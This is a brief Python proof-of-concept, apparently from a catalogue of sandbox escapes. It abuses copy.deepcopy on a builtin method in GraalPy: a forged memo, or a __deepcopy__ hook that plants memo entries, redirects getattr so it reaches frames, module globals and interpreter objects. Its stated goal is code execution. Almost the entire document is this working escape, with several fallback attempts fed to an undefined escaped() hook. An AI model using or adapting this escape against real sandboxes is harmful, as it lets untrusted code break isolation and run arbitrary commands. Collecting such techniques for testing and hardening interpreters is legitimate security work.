# technique: a method of a builtin's copies itself by getattr(object, name), and the memo says what the object and the name become
# source: reading GraalPy's library
# goal: any attribute of any object: a frame, a module, a namespace
# impact: exec
import copy


def generator():
    yield


running = generator()
method = ().__len__


class Memo:
    def __init__(self, *answers):
        self.answers = list(answers)

    def get(self, key, default=None):
        return self.answers.pop(0) if self.answers and key != id(method) else default

    def __getitem__(self, key):
        return []

    def __setitem__(self, key, value):
        pass


class Listed:
    def __deepcopy__(self, memo):
        memo.update({id(()): running, id('__len__'): 'gi_frame'})
        return self


for attempt in (
    lambda: copy.deepcopy(method, Memo(running, 'gi_frame')),
    lambda: copy.deepcopy(method, Memo(print, '__self__')),
    lambda: copy.deepcopy(method, Memo(copy.copy, '__globals__')),
    lambda: copy.deepcopy(method, {id(()): running, id('__len__'): 'gi_frame'}),
    lambda: copy.deepcopy([Listed(), method])[1],
):
    try:
        found = attempt()
    except AttributeError:
        continue
    if type(found) is not type(method):
        escaped(found)
